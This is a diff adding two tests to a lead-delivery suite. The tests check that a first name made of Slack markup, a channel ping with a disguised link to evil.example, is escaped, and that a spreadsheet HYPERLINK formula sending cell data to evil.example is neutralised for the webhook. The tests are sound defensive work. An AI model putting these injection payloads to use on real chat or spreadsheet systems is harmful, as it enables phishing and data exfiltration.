@@ -122,6 +122,28 @@ export function describeDelivery(storage: string, open: () => Promise<{ db: Data
       ])
     }, 30_000)
 
+    it("posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link", async () => {
+      await deliverTo({ chat: true })
+      const { at } = await receiver
+      const row = await send({ first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM>' })
+      await eventually(() => at('/chat').length === 1, 15_000, () => log.join('\n'))
+      const message = JSON.parse(at('/chat')[0].body)
+      expect(message).toEqual({ text: expect.stringContaining(`New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`), mrkdwn: false })
+      expect(message.text).toContain(row.id)
+      expect(message.text).not.toMatch(/[<>]/)
+    })
+
+    it('posts a first name made of a spreadsheet formula to the webhook as text, and emails it as written', async () => {
+      await deliverTo({ webhook: true, email: true })
+      const { at } = await receiver
+      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+      const row = await send({ first_name: formula })
+      await eventually(async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+      expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({ id: row.id, first_name: `'${formula}`, phone: row.phone })
+      const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
+      expect(mail?.raw).toContain(`Name: ${formula} Diaz`)
+    })
+
     it('logs one line per lead, without contact details, when no target is configured', async () => {
       await deliverTo({})
       const row = await send()
